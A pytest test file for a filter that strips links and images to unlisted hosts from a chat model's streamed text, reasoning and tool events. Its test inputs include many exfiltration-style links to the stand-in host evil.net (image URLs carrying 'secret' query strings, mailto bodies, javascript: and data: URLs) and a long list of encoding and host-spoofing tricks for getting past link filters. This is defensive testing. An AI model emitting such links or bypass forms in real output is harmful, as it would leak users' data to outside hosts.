"""Links and images in a model's text: only those to listed hosts stay, however they are written and streamed."""

import random
import re
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt

from chatrack.chat.agents.annotations import to_annotation
from chatrack.chat.agents.link_filter import LinkFilter
from chatrack.chat.agents.link_judge import is_listed, leads_to
from chatrack.chat.agents.workflow import WorkflowBuilder
from tests.support.client import deltas_of
from tests.support.serving import answer_of, errors_of, serving

HOSTS = ("example.com", "*.example.org")


def shown(text, hosts=HOSTS):
    return LinkFilter.apply(text, hosts)


@pytest.mark.parametrize(
    ("host", "listed"),
    [
        ("example.com", True),
        ("EXAMPLE.com.", True),
        ("www.example.com", False),
        ("example.com.evil.net", False),
        ("a.example.org", True),
        ("a.b.example.org", True),
        ("example.org", False),
        ("evilexample.org", False),
        ("", False),
    ],
)
def test_a_host_is_listed_by_name_or_below_a_pattern(host, listed):
    assert is_listed(host, HOSTS) is listed


@pytest.mark.parametrize(
    "text",
    [
        "Plain text, with 50 % & <b>, a[1](x), f(a)(b): c.",
        "[to us](https://example.com/a?b=c#d) and ![a cat](https://cdn.example.org/cat.png)",
        "https://example.com/x, http://example.com:8080/ and www.a.example.org/x",
        '[a](https://example.com/ "title"), [relative](../page#part), [part](#part), [root](/page)',
        "<https://example.com/x>",
        '<a href="https://example.com/">x</a> <img src="/cat.png">',
        "[1]: https://example.com/x\n[2]: Note: this is text",
        "A link begins with https:// or http: and mail to ada@example.net is no link. www. is no host.",
        "std::vector<int>, <xs:element name='x'/>, x[1]: y, C:\\path, postgres://user@db/x, data:/app/data",
        "`items[i](a: b)` // a comment\n//console.log(x)\na//b \\\\frac{1}{2} \\(x\\) &amp; &lt;",
    ],
)
def test_what_leads_nowhere_else_stays_as_it_is(text):
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![alt](https://evil.net/?q=secret) b", "![alt] (link removed) b"),
        ("[text](https://evil.net/a(b)c) b", "[text] (link removed) b"),
        ('[text](<https://evil.net/a b> "ti(t)le") b', "[text] (link removed) b"),
        ("[![alt](https://evil.net/1)](https://evil.net/2)", "[![alt] (link removed)] (link removed)"),
        ("see https://evil.net/?q=secret. And", "see (link removed). And"),
        ("(**https://evil.net/**)", "(**(link removed)**)"),
        ("<https://evil.net/x> b", "(link removed) b"),
        ("www.evil.net/x b", "(link removed) b"),
        ("[id]: https://evil.net/x 'title'", "[id]: (link removed) 'title'"),
        ('<img src="https://evil.net/x"> b', '<img src="(link removed)"> b'),
        ("<img src=//evil.net/x> b", "<img src=(link removed)> b"),
        ("参见https://evil.net/x。继续", "参见(link removed)。继续"),
    ],
)
def test_what_leads_elsewhere_becomes_plain_text(text, expected):
    assert shown(text) == expected


REFUSED = [
    "[a](//evil.net/x)",
    "[a](\\\\evil.net/x)",
    "[a](/\\evil.net/x)",
    "[a]( \n//evil.net/x)",
    "[a](" + " " * 300 + "//evil.net)",
    "[a](&Tab;//evil.net/x)",
    "[a](//2130706433/x)",
    "[a](https:evil.net/x)",
    "[a](http:/evil.net)",
    "[a](https:////evil.net)",
    "[a](https:" + "/" * 50 + "evil.net)",
    "[a](HTTPS://EVIL.NET)",
    "[a](https\\://evil.net)",
    "[a](https:\\/\\/evil.net)",
    "[a](https&colon;//evil.net)",
    "[a](&#104;ttps://evil.net)",
    "[a](&#x0000000068;ttps://evil.net)",
    "[a](" + "&NewLine;" * 2000 + "https://evil.net)",
    "[a](https://example.com@evil.net/)",
    "[a](https://example.com:80@evil.net/)",
    "[a](https://example.com%2eevil.net/)",
    "[a](https://example.com\\@evil.net/)",
    "[a](https://example.com.evil.net/)",
    "[a](https://xn--exmple-cua.com/)",
    "[a](https://ex\u0430mple.com/)",
    "[a](https://\uff45vil.net/)",
    "[a](https://[::1]/)",
    "[a](//'.evil.net)",
    "<a href=//'.evil.net>",
    '<a href="https://\'.evil.net">',
    "[a](https://" + "a" * 300 + ".example.org/)",
    "[a](javascript:alert(1))",
    "[a](<javascript: alert(1)>)",
    "[a](data:text/html,x)",
    "[a](mailto:eve@evil.net?body=secret)",
    "[a](custom-app:send?x=secret)",
    "mailto:eve@evil.net",
    "<javascript:alert(1)>",
    "<custom://evil.net>",
    "ftp://evil.net/x",
    "WWW.EVIL.NET",
    '<a href = "\n//evil.net/x">',
    '<a href="java\nscript:alert(1)">',
    '<a href="custom-app:send?x=secret">',
    '<a href="ht\ntps://evil.net/x">',
    "<img src='/\n/evil.net/x'>",
    '<img src="\\/evil.net/x">',
    '<img src="\\\\_.evil.net/x">',
    '<img src="/\\_.evil.net/x">',
    "<img src=\\&#x2f;evil.net/x>",
    '<form action="https://evil.net">',
    "[a]:\n//evil.net/x",
    "[a]: <//evil.net/x>",
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('<p style="background:url(//evil.net/?q)">', '<p style="background:url((link removed))">'),
        (
            "<p style=\"background:URL( '/\t/evil.net/?q')\">",
            "<p style=\"background:URL( '(link removed)')\">",
        ),
        ('<a ping="//evil.net/?q" href="/x">', '<a ping="(link removed)" href="/x">'),
        ('<meta content="0;url=//evil.net">', '<meta content="0;url=(link removed)">'),
        ("<meta content=\"0; url='//evil.net'\">", "<meta content=\"0; url='(link removed)'\">"),
        ('<meta content="0.5 ; //evil.net">', '<meta content="(link removed)">'),
        ('<img srcset="/a.png 1x, //evil.net/?q 2x">', '<img (link removed)="/a.png 1x, //evil.net/?q 2x">'),
        ("[x](</\t/evil.net>) b", "[x] (link removed) b"),
        ("[x](<java\tscript:alert(1)>) b", "[x] (link removed) b"),
        ("[x](<https://example.com\t.evil.net>) b", "[x](<https://example.com/\t.evil.net>) b"),
        ("<p style='background:url(/a.png)'> and url(), content: 1; ping = 3", None),
    ],
)
def test_urls_in_other_attributes_are_judged_like_links(text, expected):
    assert shown(text) == (expected or text)
    links = LinkFilter(HOSTS)
    assert "".join(map(links.feed, text)) + links.finish() == (expected or text)


@pytest.mark.parametrize("text", REFUSED)
def test_no_way_of_writing_a_link_gets_around_it(text):
    assert "(link removed)" in shown(text)
    assert leads_nowhere_else(shown(text))


@pytest.mark.parametrize(
    "text",
    [
        "[a](ht&Tab;tps://evil.net)",
        "[a](ht&Ta&Tab;b;tps://evil.net)",
        "[a](</&Tab;/evil.net/x>)",
        "[a](java&#0000010;script:alert(1))",
    ],
)
def test_characters_that_browsers_ignore_are_no_way_around_it(text):
    assert leads_nowhere_else(shown(text))


@pytest.mark.parametrize(
    "following", [".evil.net", "(.evil.net", "\u3002evil.net", "_.evil.net/", ":x", "*.evil.net", ")x"]
)
def test_an_allowed_host_ends_where_it_was_judged(following):
    found = re.search(r"https://\S+", shown(f"https://example.com{following} b"))
    assert found is None or urlsplit(found[0]).netloc == "example.com"


class _URLs(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found += [value or "" for name, value in attrs if name in {"href", "src", "action"}]


def leads_nowhere_else(text):
    """Return whether all URLs in what two renderers make of a text are relative, or lead to a listed host."""
    parser = _URLs()
    parser.feed(MarkdownIt("commonmark").render(text))
    parser.feed(MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(text))
    for found in parser.found:
        # As browsers read it.
        url = re.sub(r"[\t\r\n]", "", found.strip("".join(map(chr, range(33))))).replace("\\", "/")
        scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
        if url.startswith("mailto:") and "@" in url and "?" not in url:
            continue  # `<ada@example.net>`: an address is no more than text
        if scheme is not None and scheme[1].lower() not in {"http", "https"}:
            if scheme[1].lower() in {"javascript", "mailto", "data"} or url[scheme.end() :].startswith("//"):
                return False
            continue  # `<a.b:c>`
        if scheme is not None or url.startswith("//"):
            host = re.split(r"[/?#]", url[scheme.end() if scheme else 0 :].lstrip("/"))[0]
            if re.search("[<>]", host):
                continue  # no browser takes it for a URL
            if host and not is_listed(re.sub(r":[0-9]*$", "", host), HOSTS):
                return False
    return True


PARTS = [
    "[", "]", "(", ")", "](", "]:", "![", "<", ">", "<a href=", "<img src=", '"', "'", "=", "\\", "/", "//", ":", "?", "@", "%",
    "url(", "srcset=", "content=", "ping=", "http", "https", "https://", "h", "t", "tps://", "www.", "javascript:", "data", "src", "mailto:", "x", " ", "\n", "\t", ".",
    "evil.net", "evil", "example.com", "a.example.org", "&", "&#", "&#104;", "&Tab;", "&colon;", "&sol;", "&#x2f", "\u3002", "é", "`",
]  # fmt: skip


def test_the_pieces_do_not_change_what_is_shown_and_no_renderer_links_elsewhere():
    rng = random.Random(5)
    for _ in range(1000):
        text = "".join(rng.choices(PARTS, k=rng.randint(1, 24)))
        whole = shown(text)
        links = LinkFilter(HOSTS)
        pieces = []
        at = 0
        while at < len(text):
            end = at + rng.randint(1, 6)
            pieces.append(links.feed(text[at:end]))
            at = end
        pieces.append(links.finish())
        assert "".join(pieces) == whole, text
        assert leads_nowhere_else(whole), (text, whole)
        assert leads_nowhere_else(shown(whole)), (text, whole)


def test_text_is_held_back_only_while_it_may_be_a_link():
    links = LinkFilter(HOSTS)
    assert links.feed("Good morn") == "Good morn"
    assert links.feed("ing, a [long te") == "ing, a [long te"
    assert links.feed("xt](") == "xt"
    assert links.feed("https://exam") == ""
    assert links.feed("ple.com/wha") == "](https://example.com/wh"
    assert links.feed("t) ht") == "at) "
    assert links.feed("ml.") == "html."
    assert links.feed("你好") == "你好"
    assert links.feed("&am") == ""
    assert links.finish() == "&am"


def test_what_is_held_back_is_bounded():
    for text in ("https:" + "/" * 5000, "https://" + "a" * 5000, "[a](" + " " * 5000, "<" + "a" * 5000, "&" + "a" * 5000,
                 "&#" + "0" * 5000, "src" + " " * 5000, "url(" + " " * 5000, "content=" + "0" * 5000, "[a](" + "/" * 5000, "\\" * 5001):  # fmt: skip
        links = LinkFilter(HOSTS)
        for char in text:
            links.feed(char)
            assert len(links._held) < 600, text[:20]


@pytest.mark.parametrize(
    ("url", "stays"),
    [
        ("https://example.com/a?b", True),
        ("http://a.example.org:8080", True),
        ("https://evil.net/", False),
        ("https://example.com@evil.net/", False),
        ("https://example.com\\@evil.net/", False),
        ("//example.com/", False),
        ("javascript:alert(1)", False),
    ],
)
def test_sources_on_other_hosts_are_left_out(url, stays):
    assert leads_to(url, HOSTS) is stays
    raw = {"type": "url_citation", "url": url, "title": "t", "end_index": 3}
    assert (to_annotation(raw, HOSTS) is not None) is stays
    workflow = WorkflowBuilder("thr", tools=True, reasoning=True, provider_metadata={}, link_hosts=HOSTS)
    action = {"type": "search", "query": "q", "sources": [{"type": "url", "url": url}]}
    (event,) = workflow.hosted_tool_call(
        SimpleNamespace(type="web_search_call", id="ws", action=action), done=True
    )
    assert [source.url for source in event.item.workflow.tasks[0].sources] == [url] * stays


@pytest.mark.parametrize(
    "item",
    [
        {"type": "web_search_call", "action": {"type": "search", "query": "![x](//evil.net/?q)"}},
        {"type": "file_search_call", "results": [SimpleNamespace(filename="![x](//evil.net/?q)")]},
        {"type": "mcp_call", "name": "![x](//evil.net/?q)"},
    ],
)
def test_links_in_searches_and_names_of_tools_are_removed_too(item):
    workflow = WorkflowBuilder("thr", tools=True, reasoning=True, provider_metadata={}, link_hosts=HOSTS)
    (event,) = workflow.hosted_tool_call(SimpleNamespace(id="ws", **item), done=True)
    shown_events = event.item.model_dump_json()
    (event,) = workflow.tool_call("c", "![x](//evil.net/?q)", known=False)
    shown_events += event.model_dump_json()
    assert "evil.net" not in shown_events
    assert shown_events.count("(link removed)") >= 2


def test_links_in_reasoning_are_removed_too():
    workflow = WorkflowBuilder("thr", tools=True, reasoning=True, provider_metadata={}, link_hosts=HOSTS)
    workflow.reasoning_delta(("text", 0, 0), "I ")
    (event,) = workflow.reasoning_done(("text", 0, 0), "I show ![x](https://evil.net/?q=s).")
    assert event.update.task.content == "I show ![x] (link removed)."


async def test_what_is_streamed_is_what_is_stored_and_what_the_model_remembers(configure, api):
    answer = "See ![x](https://evil.net/?q=secret) and [us](https://example.com/a), or https://evil.net/"
    expected = "See ![x] (link removed) and [us](https://example.com/a), or (link removed)"
    async with serving(configure(api=api, chat="link_hosts = ['example.com']")) as chat:
        thread, events = await chat.create(f"echo: {answer}")
        assert not errors_of(events)
        assert deltas_of(events) == answer_of(events) == expected
        assert await chat.answers(thread) == [expected]
        assert f"assistant:{expected} |" in answer_of(await chat.say(thread, "history?")).replace(
            "/a/)", "/a)"
        )


async def test_without_a_list_all_links_stay(configure):
    async with serving(configure()) as chat:
        text = "![x](https://evil.net/?q=secret) javascript:x"
        _, events = await chat.create(f"echo: {text}")
        assert deltas_of(events) == answer_of(events) == text
